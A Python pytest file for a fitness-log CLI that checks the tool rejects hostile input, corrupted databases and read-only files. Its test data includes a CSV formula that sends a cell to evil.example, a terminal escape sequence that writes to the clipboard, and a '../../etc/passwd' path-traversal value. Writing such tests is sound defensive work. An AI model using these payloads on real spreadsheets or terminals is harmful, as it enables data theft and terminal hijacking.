"""The training log against hostile input, a second process, and files it cannot write
(issue 11; review 2026-12-reliability S4–S7, S9–S11, S13, S14). One class per finding;
each test says which one it covers."""

from __future__ import annotations

import datetime as dt
import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import typer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from runstrength.cli import app, log_cmd
from runstrength.enums import LoadUnit
from runstrength.errors import InvalidInput, StorageError
from runstrength.log import db as log_db
from runstrength.log.records import LoggedSet, csv_cell, csv_uncell
from runstrength.log.spec import strict_date, strict_int
from runstrength.log.storage import SessionLog
from runstrength.models import Profile
from runstrength.text import printable

from helpers import make_plan

TODAY = "2026-01-08"  # plan sessions: Mon 2026-01-05 (A) and Thu 2026-01-08 (B)
ESC = "\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[31m"


@pytest.fixture(autouse=True)
def _pinned(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RUNSTRENGTH_TODAY", TODAY)  # the shipped catalog: `plan` must work
    monkeypatch.setattr(log_cmd, "stdin_is_terminal", lambda: False)


@pytest.fixture
def planned(db: Path) -> Path:
    """A log with a profile, an active plan and one logged session."""
    with SessionLog(db) as log:
        log.save_profile(Profile())
        log.save_plan(make_plan())
        log.add_session(
            dt.date(2026, 1, 5),
            [LoggedSet("back-squat", 1, reps=5, load=80.0, unit=LoadUnit.KG, rir=2)],
        )
    return db


def run(*args: str, input: str | None = None) -> Result:
    return CliRunner().invoke(app, list(args), input=input)


def ok(*args: str) -> str:
    result = run(*args)
    assert result.exit_code == 0, (result.stdout, result.stderr)
    return result.stdout


def refused(*args: str, match: str = "") -> str:
    """Exit 2 with exactly one line on stderr, never a traceback."""
    result = run(*args)
    assert result.exit_code == 2, (result.exit_code, result.stdout, result.stderr, result.exception)
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert match in lines[0], lines[0]
    return lines[0]


def still_readable() -> None:
    """The log still works for every reading command."""
    ok("log", "list")
    ok("next")
    ok("history")
    ok("log", "export")


def snapshot(db: Path) -> str:
    with SessionLog(db) as log:
        return log.export_json()


def raw_insert(db: Path, note: str, exercise_id: str = "back-squat", label: str = "A") -> None:
    """What an older version or a hand-edited file could hold, past every check."""
    with sqlite3.connect(db) as conn:
        cur = conn.execute(
            "INSERT INTO sessions (date, plan_id, week, session, label, note) "
            "VALUES ('2026-01-06', 1, 1, 1, ?, ?)",
            (label, note),
        )
        conn.execute(
            "INSERT INTO sets (session_id, exercise_id, set_no, reps, load, unit) "
            "VALUES (?, ?, 1, 5, 80, 'kg')",
            (cur.lastrowid, exercise_id),
        )


# --------------------------------------------------------------------------- S13/S14: SPEC


class TestStrictSpec:
    """S13/S14: Unicode digits, 4,300+ digits, NaN/Inf, negatives, pain > 10 and dates
    outside 1900–2100 are one-line refusals wherever they enter, and never reach the log."""

    @pytest.mark.parametrize(
        "spec",
        [
            "²x5",
            "3²x5",
            "①3x5",
            "٣x5",
            "3x٥",
            "3x" + "9" * 5000,
            "9" * 5000 + "x5",
            "3x5@" + "9" * 5000,
            "3x5@nan",
            "3x5@inf",
            "3x5@-inf",
            "3x5@1e400",
            "3x-5",
            "3x5@-80",
            "5,5,²",
            "3x5\n@80",
        ],
    )
    def test_bad_specs_are_one_line(self, planned: Path, spec: str) -> None:
        before = snapshot(planned)
        line = refused("log", "back-squat", spec, match="bad SPEC")
        assert len(line) < 300
        assert snapshot(planned) == before

    @pytest.mark.parametrize(
        ("flag", "value"),
        [
            ("--rir", "-3"),
            ("--rir", "11"),
            ("--pain", "99"),
            ("--pain", "-1"),
            ("--rir", "²"),
            ("--pain", "9" * 5000),
            ("--date", "0001-01-01"),
            ("--date", "1899-12-31"),
            ("--date", "٢٠٢٦-01-01"),
            ("--date", "2026-1-5"),
            ("--date", "2026-01-05T00:00"),
        ],
    )
    def test_bad_flags_are_one_line(self, planned: Path, flag: str, value: str) -> None:
        before = snapshot(planned)
        refused("log", "back-squat", "3x5@80kg", flag, value)
        assert snapshot(planned) == before

    def test_a_pinned_today_before_1900_is_refused(
        self, planned: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("RUNSTRENGTH_TODAY", "0001-01-01")
        refused("log", "back-squat", "3x5", "--date", "yesterday", match="1900")
        refused("log", "back-squat", "3x5", match="1900")

    def test_the_edges_of_the_range_are_fine(self, planned: Path) -> None:
        ok("log", "back-squat", "3x5@80kg", "--date", "1900-01-01")
        still_readable()

    def test_a_legacy_session_dated_year_1_breaks_nothing(self, planned: Path) -> None:
        """S11/S13: a log written before dates were checked may hold 0001-01-01."""
        with sqlite3.connect(planned) as conn:
            conn.execute("INSERT INTO sessions (date) VALUES ('0001-01-01')")
        still_readable()
        ok("log", "pogos", "3x10c")
        ok("plan", "--format", "json")
        ok("log", "edit", "2", "--date", "2026-01-02")  # and it can be corrected

    def test_edit_is_as_strict(self, planned: Path) -> None:
        refused("log", "edit", "1", "--date", "0001-01-01")
        refused("log", "edit", "1", "back-squat", "²x5")
        refused("log", "edit", "1", "--note", "bad" + ESC)
        refused("log", "edit", "999999999999999999999999", "--note", "x")

    def test_a_note_with_escape_characters_is_refused(self, planned: Path) -> None:
        refused("log", "back-squat", "3x5", "--note", "hi" + ESC, match="control character")
        ok("log", "back-squat", "3x5", "--note", "two\nlines\tand a tab")

    def test_the_strict_parsers(self) -> None:
        assert strict_int(" 12 ", "weeks", 1, 52) == 12
        for bad in ("²", "①", "٣", "-1", "1.0", "9" * 5000, "", "53", "0"):
            with pytest.raises(InvalidInput):
                strict_int(bad, "weeks", 1, 52)
        assert strict_date("2100-12-31", "d") == dt.date(2100, 12, 31)
        for bad in ("2101-01-01", "0001-01-01", "9999-12-31", "٢٠٢٦-01-01", "20260105"):
            with pytest.raises(InvalidInput):
                strict_date(bad, "d")


# --------------------------------------------------------------------------- S4, S6: profile


class TestProfileSet:
    """S4/S6: `profile set` is one transaction and validates as `plan` does."""

    @pytest.mark.parametrize(
        ("key", "value"),
        [
            ("weeks", "²"),
            ("weeks", "9" * 5000),
            ("days", "٣"),
            ("volume", "٤٠km"),
            ("volume", "nan"),
            ("volume", "inf"),
            ("start", "9999-12-25"),
            ("start", "0001-01-01"),
            ("race-date", "0001-01-01"),
            ("race-date", "2025-01-01"),
            ("equipment", "x"),
            ("injuries", "nonsense"),
            ("increment", "nan"),
            ("increment", "1e400"),
            ("max", "back-squat=inf"),
            ("max", "back-squat=-100"),
            ("weeks", "3\x1b[2J"),
            ("nokey", "1"),
        ],
    )
    @pytest.mark.slow
    def test_bad_values_are_refused_and_nothing_changes(
        self, planned: Path, key: str, value: str
    ) -> None:
        before = snapshot(planned)
        refused("profile", "set", key, value)
        assert snapshot(planned) == before
        ok("plan", "--format", "json")
        still_readable()

    def test_a_race_date_can_be_set_before_its_distance(self, planned: Path) -> None:
        ok("profile", "set", "race-date", "2026-06-01")
        ok("profile", "set", "race-distance", "half")
        ok("plan", "--format", "json")

    def test_the_read_and_write_are_one_transaction(
        self, planned: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A second writer waits for `profile set` to finish, so it cannot be undone."""
        seen: list[bool] = []
        real = SessionLog.save_profile

        def save(log: SessionLog, profile: Profile) -> None:
            other = sqlite3.connect(planned, timeout=0)
            try:
                other.execute("BEGIN IMMEDIATE")
            except sqlite3.OperationalError as exc:
                seen.append("locked" in str(exc))
            other.close()
            real(log, profile)

        monkeypatch.setattr(SessionLog, "save_profile", save)
        ok("profile", "set", "days", "2")
        assert seen == [True]


# --------------------------------------------------------------------------- S6: plan --save


class TestPlanSave:
    """S6: `plan --save` saves only when the whole command succeeded, profile and plan in
    one transaction, and never over a profile another process changed meanwhile."""

    def _state(self, db: Path) -> tuple[str | None, int]:
        with SessionLog(db) as log:
            active = log.active_plan()
            return log.profile_json(), active.id if active else 0

    @pytest.mark.parametrize(
        "args",
        [
            ["--weeks", "9", "-o", "/nonexistent/dir/plan.md"],
            ["--weeks", "7", "-f", "ics"],
            ["--weeks", "5", "-f", "nonsense"],
            ["--weeks", "²"],
            ["--start", "9999-12-20"],
        ],
    )
    def test_a_failing_command_saves_nothing(self, planned: Path, args: list[str]) -> None:
        before = self._state(planned)
        result = run("plan", "--save", *args)
        assert result.exit_code != 0
        assert self._state(planned) == before

    def test_a_profile_changed_meanwhile_is_not_overwritten(self, planned: Path) -> None:
        with SessionLog(planned) as log:
            based_on = log.profile_json()
            log.save_profile(Profile(days=2))
            changed = log.profile_json()
            with pytest.raises(StorageError, match="changed while this plan was made"):
                log.save_profile_and_plan(Profile(days=3), make_plan(), based_on=based_on)
            assert log.profile_json() == changed


# --------------------------------------------------------------------------- S5: undo


class TestUndo:
    """S5: `log undo` removes exactly the session it showed, and asks (refusing without a
    terminal unless --yes)."""

    def test_without_a_terminal_it_needs_yes(self, planned: Path) -> None:
        refused("log", "undo", match="--yes")
        with SessionLog(planned) as log:
            assert log.count()[0] == 1
        assert "Removed session #1." in ok("log", "undo", "--yes")

    def test_an_entry_merged_meanwhile_is_not_removed(
        self, planned: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        ok("log", "trap-bar-deadlift", "3x5@100kg", "--date", "2026-01-07")
        monkeypatch.setattr(log_cmd, "stdin_is_terminal", lambda: True)

        def confirm(*_: object, **__: object) -> bool:
            # another process logs into the shown session while the question is open
            with SessionLog(planned) as other:
                other.add_session(dt.date(2026, 1, 7), [LoggedSet("pogos", 1, contacts=10)])
            return True

        monkeypatch.setattr(typer, "confirm", confirm)  # the module log_cmd asks through
        line = refused("log", "undo", match="changed meanwhile")
        assert "nothing was removed" in line
        with SessionLog(planned) as log:
            last = log.last_session()
        assert last is not None
        assert {s.exercise_id for s in last.sets} == {"trap-bar-deadlift", "pogos"}

    def test_it_shows_every_entry_it_removes(self, planned: Path) -> None:
        ok("log", "trap-bar-deadlift", "3x5@100kg", "--date", "2026-01-07")
        ok("log", "pogos", "3x10c", "--date", "2026-01-07")
        out = ok("log", "undo", "--yes")
        assert "trap-bar-deadlift" in out and "pogos" in out
        assert out.splitlines()[-1] == "Removed session #2."


# --------------------------------------------------------------------------- S9: CSV


class TestCsvFormulas:
    """S9: exported CSV cells that a spreadsheet would run are neutralised."""

    def test_cells(self) -> None:
        for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "'=1"):
            assert csv_cell(text).startswith("'")
            assert csv_uncell(csv_cell(text)) == text
        for plain in ("-5", "-2.5", "+3", "1e5", "ok", "'quoted", "a=b"):
            assert csv_cell(plain) == plain
            assert csv_uncell(plain) == plain
        assert csv_cell(-2.5) == "-2.5" and csv_cell(None) == ""

    def test_log_export_and_round_trip(self, planned: Path, tmp_path: Path) -> None:
        note = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
        ok("log", "pogos", "3x10c", "--note", note)
        out = ok("log", "export", "-f", "csv")
        assert "\"'=HYPERLINK(" in out
        import csv
        import io

        for row in csv.reader(io.StringIO(out)):
            for cell in row:
                assert not cell or cell[0] not in "=+@\t\r" or cell.startswith("'")
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
        exported = tmp_path / "log.csv"
        exported.write_text(out, encoding="utf-8")
        with SessionLog(tmp_path / "other.db") as other:
            other.import_text(out)
            assert any(s.note == note for s in other.sessions())

    def test_history_csv(self, planned: Path) -> None:
        raw_insert(planned, "n", exercise_id='=HYPERLINK("http://evil")')
        out = ok("history", "-f", "csv")
        assert "'=HYPERLINK" in out
        assert ",=HYPERLINK" not in out and ',"=HYPERLINK' not in out


# --------------------------------------------------------------------------- values by hand


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ("UPDATE sets SET unit = 'stone'", "sets row 1: 'stone' is not a valid LoadUnit"),
        ("UPDATE sets SET reps = 'ten'", "sets row 1: reps 'ten'"),
        ("UPDATE sets SET load = 1e308", "sets row 1: load 1e+308"),
        ("UPDATE sessions SET date = '2026-13-45'", "2026-13-45"),
    ],
)
@pytest.mark.parametrize("command", [["log", "list"], ["history"], ["next"], ["log", "export"]])
def test_a_value_no_runstrength_writes_is_one_line(
    planned: Path, change: str, said: str, command: list[str]
) -> None:
    """The hostile-input QA run: valid SQLite with a value only a hand edit makes (a unit
    'stone', reps 'ten', a load of 1e308, a date '2026-13-45') was a traceback in `log
    list`, `history`, `next` and `log export`. It is one line naming the log, and the log
    is left as it is."""
    with sqlite3.connect(planned) as conn:
        conn.execute(change)
    conn.close()
    line = refused(*command, match="the log database holds a value runstrength never writes")
    if command in (["log", "list"], ["log", "export"]):  # these read the row itself
        assert said in line, line
    assert f"`sqlite3 {planned}`" in line


# --------------------------------------------------------------------------- S10: terminal


class TestTerminalText:
    """S10 (log part): control and escape characters from the log never reach the
    terminal in `log list`, `history` and `next`."""

    def test_printable(self) -> None:
        shown = printable("a" + ESC + "b")
        assert "\x1b" not in shown and "\x07" not in shown and shown.startswith("a\\x1b]52")
        assert printable("x\ny\tz") == "x\\ny\\tz"
        assert printable("Ünïcode ×") == "Ünïcode ×"

    def test_list_history_next(self, planned: Path) -> None:
        raw_insert(planned, "note" + ESC, exercise_id="id" + ESC, label="L" + ESC)
        for args in (["log", "list"], ["history"], ["next"], ["log", "undo", "--yes"]):
            out = ok(*args)
            assert "\x1b" not in out and "\x07" not in out, args


# --------------------------------------------------------------------------- S11: import


def _export(sessions: list[dict[str, object]], **extra: object) -> str:
    return json.dumps({"format": "runstrength-log", "version": 1, "sessions": sessions, **extra})


def _session(**fields: object) -> dict[str, object]:
    base: dict[str, object] = {"id": 50, "date": "2026-01-06", "created_at": "", "sets": []}
    set_fields = {k: fields.pop(k) for k in list(fields) if k.startswith("set_")}
    if set_fields:
        one: dict[str, object] = {"exercise_id": "back-squat", "set_no": 1, "reps": 5}
        one.update({"load": 80.0, "unit": "kg"})
        one.update({k[4:]: v for k, v in set_fields.items()})
        base["sets"] = [one]
    base.update(fields)
    return base


BAD_JSON = {
    "nan load": _export([_session(set_load=float("nan"))]),
    "inf load": _export([_session(set_load=float("inf"))]),
    "negative reps": _export([_session(set_reps=-5)]),
    "negative rir": _export([_session(set_rir=-3)]),
    "pain 99": _export([_session(set_pain=99)]),
    "huge id": _export([_session(id=2**70)]),
    "huge reps": _export([_session(set_reps=2**70)]),
    "5000-digit id": '{"format": "runstrength-log", "version": 1, "sessions": [{"id": '
    + "9" * 5000
    + "}]}",
    "year 1": _export([_session(date="0001-01-01")]),
    "year 9999": _export([_session(date="9999-12-31")]),
    "unknown exercise": _export([_session(set_exercise_id="../../etc/passwd")]),
    "true as id": _export([_session(id=True)]),
    "true as reps": _export([_session(set_reps=True)]),
    "unknown plan": _export([_session(plan_id=999999)]),
    "week -1": _export([_session(week=-1)]),
    "escape note": _export([_session(note="x" + ESC)]),
    "load without unit": _export([_session(set_unit=None)]),
    "duplicate ids": _export([_session(), _session(note="other")]),
    "garbage increment": _export([], settings={"increment": "garbage"}),
    "unknown setting": _export([], settings={"theme": "dark"}),
    "max -100": _export(
        [], maxes=[{"exercise_id": "back-squat", "e1rm": -100, "unit": "kg", "source": "x"}]
    ),
    "max inf": _export(
        [], maxes=[{"exercise_id": "back-squat", "e1rm": 1e309, "unit": "kg", "source": "x"}]
    ),
    "profile year 1": _export([], profile={"start_date": "0001-01-01"}),
    "deep nesting": '{"format": "runstrength-log", "version": 1, "sessions": '
    + "[" * 100_000
    + "]" * 100_000
    + "}",
    "deep objects": '{"format": "runstrength-log", "version": 1, "profile": '
    + '{"a": ' * 5000
    + "1"
    + "}" * 5000
    + ', "sessions": []}',
}

HEADER = (
    "session_id,date,plan_id,week,session,label,note,created_at,exercise_id,set_no,reps,load,"
    "unit,seconds,contacts,distance_m,rir,pain,target_reps_lo,target_reps_hi,target_rir\n"
)
ROW = "60,2026-01-06,,,,,,,back-squat,1,5,80.0,kg,,,,2,,,,\n"
BAD_CSV = {
    "extra cells": HEADER + ROW.rstrip("\n") + ",extra\n",
    "missing cells": HEADER + "60,2026-01-06,,,,\n",
    "conflicting rows": HEADER + ROW + ROW.replace("2026-01-06", "2026-01-07"),
    "conflicting notes": HEADER + ROW + ROW.replace(",,,,,,,back", ",,,,,other,,back"),
    "huge id": HEADER + ROW.replace("60,", "9" * 30 + ",", 1),
    "5000 digits": HEADER + ROW.replace(",5,80.0", "," + "9" * 5000 + ",80.0"),
    "nan": HEADER + ROW.replace("80.0", "nan"),
    "big cell": HEADER + ROW.replace(",back-squat", "," + "x" * 200_000),
    "nul": HEADER + ROW.replace("back-squat", "back\x00squat"),
    "unicode digit": HEADER + ROW.replace(",5,", ",٥,"),
    "unknown exercise": HEADER + ROW.replace("back-squat", "=HYPERLINK(1)"),
}


class TestImport:
    """S11, S13, S14, S7 (log part): import refuses anything it would have to alter or
    that breaks the log later (one line naming the row), all or nothing, bounded."""

    @pytest.mark.parametrize("name", sorted(BAD_JSON) + [f"csv {n}" for n in sorted(BAD_CSV)])
    def test_a_bad_file_changes_nothing(self, planned: Path, tmp_path: Path, name: str) -> None:
        text = BAD_CSV[name[4:]] if name.startswith("csv ") else BAD_JSON[name]
        file = tmp_path / "in.txt"
        file.write_text(text, encoding="utf-8")
        before = snapshot(planned)
        line = refused("log", "import", str(file))
        assert len(line) < 400
        assert "sys." not in line  # no advice about Python's internals (reliability re-check)
        assert snapshot(planned) == before
        still_readable()

    def test_a_good_file_still_imports(self, planned: Path, tmp_path: Path) -> None:
        file = tmp_path / "in.json"
        file.write_text(_export([_session(set_rir=2), _session(id=51, note="ok")]), "utf-8")
        assert "Imported 2 session(s)" in ok("log", "import", str(file))
        assert "already in the log" in ok("log", "import", str(file))
        still_readable()

    def test_non_regular_files_are_refused(self, planned: Path, tmp_path: Path) -> None:
        refused("log", "import", "/dev/zero", match="give the log export as a file")
        refused("log", "import", str(tmp_path), match="")
        fifo = tmp_path / "fifo"
        os.mkfifo(fifo)
        # no writer: opening it used to wait for one for ever (reliability re-check)
        refused("log", "import", str(fifo), match="is a FIFO")

    def test_an_export_with_a_byte_order_mark_imports(self, planned: Path, tmp_path: Path) -> None:
        """A spreadsheet's "UTF-8" save adds a BOM; it was refused as a bad CSV header."""
        for name, text in (("bom.csv", HEADER + ROW), ("bom.json", _export([_session(id=52)]))):
            file = tmp_path / name
            file.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
            assert "Imported 1 session(s)" in ok("log", "import", str(file)), name

    def test_size_and_row_caps(
        self, planned: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        from runstrength.log import importer

        file = tmp_path / "big.csv"
        file.write_text(HEADER + "".join(ROW.replace("60,", f"{i},", 1) for i in range(1, 51)))
        monkeypatch.setattr(importer, "MAX_IMPORT_ROWS", 20)
        refused("log", "import", str(file), match="more than 20 rows")
        monkeypatch.setattr(importer, "MAX_IMPORT_BYTES", 1000)
        refused("log", "import", str(file), match="too large for a log export")


class TestExportTarget:
    """S3 (log part): `log export -o` never replaces the log itself or its WAL files."""

    def test_the_log_is_not_an_export_target(self, planned: Path) -> None:
        before = snapshot(planned)
        for target in (planned, Path(f"{planned}-wal"), planned.parent / "." / planned.name):
            refused("log", "export", "-o", str(target), match="the training log itself")
        assert snapshot(planned) == before


# --------------------------------------------------------------------------- read-only, foreign


class TestReadOnly:
    """Issue 11 item 7: a log this process cannot write is opened read-only: reading
    commands work, writing ones are refused with one line saying so."""

    @pytest.fixture
    def read_only(self, planned: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
        monkeypatch.setattr(log_db, "writable", lambda path: False)
        yield planned

    def test_reads_work_and_write_nothing(self, read_only: Path) -> None:
        before = read_only.read_bytes()
        still_readable()
        ok("plan", "--format", "json")
        ok("profile")
        assert read_only.read_bytes() == before
        assert not Path(f"{read_only}-wal").exists() or Path(f"{read_only}-wal").stat().st_size == 0

    @pytest.mark.parametrize(
        "args",
        [
            ["log", "back-squat", "3x5@80kg"],
            ["log", "undo", "--yes"],
            ["log", "edit", "1", "--note", "x"],
            ["profile", "set", "days", "2"],
            ["plan", "--save", "--format", "json"],
        ],
    )
    def test_writes_are_refused(self, read_only: Path, args: list[str]) -> None:
        refused(*args, match=f"the training log at {read_only} is read-only")

    def test_an_empty_read_only_file_reads_as_an_empty_log(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """An empty file is no log yet (S15): reads see an empty log, a write says why it
        cannot make one."""
        monkeypatch.setattr(log_db, "writable", lambda path: False)
        path = tmp_path / "empty.db"
        path.touch()
        with SessionLog(path) as log:
            assert log.sessions() == [] and log.count() == (0, 0)
            with pytest.raises(StorageError, match="is read-only"):
                log.add_session(dt.date(2026, 1, 5), [])
        assert path.read_bytes() == b""

    @pytest.mark.slow
    def test_a_read_only_mount(self, tmpfs: Path) -> None:
        """The real thing where the machine lets us mount (root in a container)."""
        mnt = tmpfs  # unmounted by the fixture
        with SessionLog(mnt / "log.db") as log:
            log.add_session(dt.date(2026, 1, 5), [LoggedSet("pogos", 1, contacts=10)])
        subprocess.run(["mount", "-o", "remount,ro", str(mnt)], check=True)
        env = {**os.environ, "RUNSTRENGTH_HOME": str(mnt), "RUNSTRENGTH_TODAY": TODAY}
        cli = [sys.executable, "-m", "runstrength"]
        listed = subprocess.run([*cli, "log", "list"], env=env, capture_output=True, text=True)
        assert listed.returncode == 0 and "pogos" in listed.stdout, listed.stderr
        export = subprocess.run([*cli, "log", "export"], env=env, capture_output=True)
        assert export.returncode == 0
        write = subprocess.run(
            [*cli, "log", "pogos", "3x10c"], env=env, capture_output=True, text=True
        )
        assert write.returncode == 2
        assert write.stderr.count("\n") == 1 and "is read-only" in write.stderr


@pytest.mark.slow
def test_a_read_only_mount_with_changes_in_the_wal_is_refused_not_shown_empty(
    tmp_path: Path, tmpfs: Path
) -> None:
    """Reliability re-check: a log whose newest sessions sat in its -wal file, on a
    read-only mount with no -shm, listed as "The log is empty." (immutable reads skip
    the WAL). One line says what is wrong and what to do instead."""
    mnt = tmpfs  # unmounted by the fixture
    work = tmp_path / "work"
    work.mkdir()
    with SessionLog(work / "log.db") as log:
        log.add_session(dt.date(2026, 1, 5), [LoggedSet("pogos", 1, contacts=10)])
        with sqlite3.connect(work / "log.db") as held:  # keeps the WAL from a checkpoint
            held.execute("PRAGMA wal_autocheckpoint = 0")
            log.add_session(dt.date(2026, 1, 6), [LoggedSet("pogos", 1, contacts=12)])
            for name in ("log.db", "log.db-wal"):
                (mnt / name).write_bytes((work / name).read_bytes())
    assert (mnt / "log.db-wal").stat().st_size > 0
    subprocess.run(["mount", "-o", "remount,ro", str(mnt)], check=True)
    env = {**os.environ, "RUNSTRENGTH_HOME": str(mnt), "RUNSTRENGTH_TODAY": TODAY}
    cli = [sys.executable, "-m", "runstrength"]
    listed = subprocess.run([*cli, "log", "list"], env=env, capture_output=True, text=True)
    assert listed.returncode == 2, (listed.stdout, listed.stderr)
    assert listed.stderr.count("\n") == 1 and "log.db-wal" in listed.stderr


@pytest.fixture
def tmpfs(tmp_path: Path) -> Iterator[Path]:
    """A 4 MB tmpfs mounted for the test (root on Linux only: skipped elsewhere), the
    test's to remount read-only; unmounted after."""
    if os.geteuid() != 0 or sys.platform != "linux":
        pytest.skip("needs root on Linux to mount a tmpfs")
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(mnt)]).returncode:
        pytest.skip("cannot mount a tmpfs here")
    try:
        yield mnt
    finally:
        subprocess.run(["umount", str(mnt)])


class TestForeignDatabase:
    """Issue 11 item 7 / S15: an SQLite file that holds anything but a runstrength log is
    refused and left untouched; an empty file becomes a new log."""

    def _refused(self, path: Path) -> None:
        before = path.read_bytes()
        with pytest.raises(StorageError, match="not a runstrength log"):
            SessionLog(path)
        assert path.read_bytes() == before

    def test_application_id_only(self, tmp_path: Path) -> None:
        path = tmp_path / "app.db"
        with sqlite3.connect(path) as conn:
            conn.execute("PRAGMA application_id = 1234")
        self._refused(path)

    def test_user_version_only(self, tmp_path: Path) -> None:
        path = tmp_path / "uv.db"
        with sqlite3.connect(path) as conn:
            conn.execute("PRAGMA user_version = 7")
        self._refused(path)

    def test_runstrength_tables_next_to_foreign_ones(self, tmp_path: Path) -> None:
        path = tmp_path / "mixed.db"
        with SessionLog(path) as log, log.transaction():
            pass  # the first write creates the log
        with sqlite3.connect(path) as conn:
            conn.execute("CREATE TABLE bank_accounts (iban TEXT)")
        self._refused(path)

    def test_a_foreign_migrations_table_alone(self, tmp_path: Path) -> None:
        path = tmp_path / "fake.db"
        with sqlite3.connect(path) as conn:
            conn.execute("CREATE TABLE _runstrength_migrations (name TEXT, applied_at TEXT)")
            conn.execute("CREATE TABLE bank_accounts (iban TEXT)")
        self._refused(path)

    def test_an_empty_file_becomes_a_log(self, tmp_path: Path) -> None:
        path = tmp_path / "empty.db"
        path.touch()
        with SessionLog(path) as log:
            assert log.count() == (0, 0)

    def test_an_empty_sqlite_file_becomes_a_log(self, tmp_path: Path) -> None:
        path = tmp_path / "blank.db"
        with sqlite3.connect(path) as conn:
            conn.execute("PRAGMA journal_mode = WAL")  # a header, nothing else
        with SessionLog(path) as log:
            assert log.count() == (0, 0)


# --------------------------------------------------------------------------- fuzz


FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
DIGITS = "0123456789²³①٣٥۵߃५১௫๕၅"
spec_text = st.one_of(
    st.text(alphabet=DIGITS + "x×,@.skgcmlbw -eEnaif", max_size=16),
    st.builds(lambda n, s: f"{n}x{s}", st.integers(-5, 10**30), st.integers(-5, 10**30)),
    st.builds(lambda k: "3x" + "9" * k, st.integers(4200, 4400)),
    st.text(max_size=12),
)
flag_text = st.one_of(
    st.text(alphabet=DIGITS + "-+.", max_size=8),
    st.integers(-(10**6), 10**6).map(str),
    st.sampled_from(["nan", "inf", "-0", "1e3", "9" * 5000]),
)
date_text = st.one_of(
    st.dates().map(dt.date.isoformat),
    st.text(alphabet=DIGITS + "-T:", max_size=12),
    st.sampled_from(["today", "yesterday", "0001-01-01", "9999-12-31", "2100-12-31"]),
)


def _one_line_or_ok(result: Result) -> None:
    assert result.exit_code in (0, 2), (result.exit_code, result.exception, result.stderr)
    if result.exit_code == 2:
        assert result.stderr.count("\n") == 1 and result.stderr.startswith("Error"), result.stderr


class TestDamagedPages:
    """Reliability re-check N1, N2: a log whose file is readable but one table's page (or
    a saved plan's text) is damaged. Every command that reads it says so in one line and
    exit 2; it was a traceback in `next`, `log` (the pain tables) and `log export`."""

    @staticmethod
    def _damage_table(db: Path, table: str) -> None:
        with sqlite3.connect(db) as conn:
            conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
            root = conn.execute(
                "SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)
            ).fetchone()[0]
            size = conn.execute("PRAGMA page_size").fetchone()[0]
        with db.open("r+b") as f:
            f.seek((root - 1) * size)
            f.write(b"\xde\xad\xbe\xef garbage!!" * 8)

    @pytest.mark.parametrize("table", ["next_day_pain", "pain_checkins", "skipped_exercises"])
    @pytest.mark.parametrize(
        "args",
        [["next"], ["log", "back-squat", "3x5@90kg"], ["log", "--done"], ["log", "list"]],
    )
    def test_a_damaged_table_is_one_line(self, planned: Path, table: str, args: list[str]) -> None:
        """A command that reads the table says it is damaged in one line; one that does
        not read it works. Never a traceback."""
        self._damage_table(planned, table)
        result = run(*args)
        assert result.exit_code in (0, 2), (result.exit_code, result.stderr, result.exception)
        if result.exit_code == 2:
            assert result.stderr.count("\n") == 1 and "damaged" in result.stderr, result.stderr
        if args == ["next"] and table != "skipped_exercises":  # `next` reads the pain
            assert result.exit_code == 2

    @pytest.mark.parametrize(
        "args", [["profile", "set", "days", "2"], ["log", "back-squat", "3x5@90kg"]]
    )
    def test_nothing_is_written_into_a_damaged_log(self, planned: Path, args: list[str]) -> None:
        """N3: a write into a log with a damaged page (one the command never reads) said
        it succeeded, and changed the file: writing there can spread the damage."""
        self._damage_table(planned, "runs")
        before = planned.read_bytes()
        line = refused(*args, match="damaged")
        assert "***" not in line and "nothing was written" in line  # what is wrong, said
        assert planned.read_bytes() == before
        assert ok("log", "list").startswith("#1")  # what can be read still is

    def test_a_damaged_saved_plan_keeps_the_csv_export(self, planned: Path) -> None:
        with sqlite3.connect(planned) as conn:
            conn.execute("UPDATE plans SET json = substr(json, 1, 1000)")
        line = refused("log", "export", match="saved plan #1 is damaged")
        assert "--format csv" in line
        assert "back-squat" in ok("log", "export", "--format", "csv")


class TestFuzz:
    """Issue 11: every outcome is exit 0 or exit 2 with one line, and the log stays
    readable (`log list` and `next` still work)."""

    @FUZZ
    @given(spec=spec_text, rir=flag_text, pain=flag_text, date=date_text)
    @pytest.mark.slow
    def test_log(self, planned: Path, spec: str, rir: str, pain: str, date: str) -> None:
        if spec.startswith("-"):
            spec = " " + spec  # not an option
        args = ["log", "back-squat", spec, "--rir", rir, "--pain", pain, "--date", date]
        _one_line_or_ok(run(*args))
        _one_line_or_ok(run("log", "pogos", spec, "--date", date))
        ok("log", "list")
        ok("next")

    @FUZZ
    @given(
        key=st.sampled_from(
            ["weeks", "days", "volume", "start", "race-date", "increment", "max", "equipment"]
        ),
        value=st.one_of(flag_text, date_text, st.text(max_size=10)),
    )
    @pytest.mark.slow
    def test_profile_set(self, planned: Path, key: str, value: str) -> None:
        if value.startswith("-"):
            value = " " + value
        _one_line_or_ok(run("profile", "set", key, value))
        # A race date may be saved before its distance (the other half is set next); until
        # then `plan` refuses in one line. Everything else still plans, and `next` works.
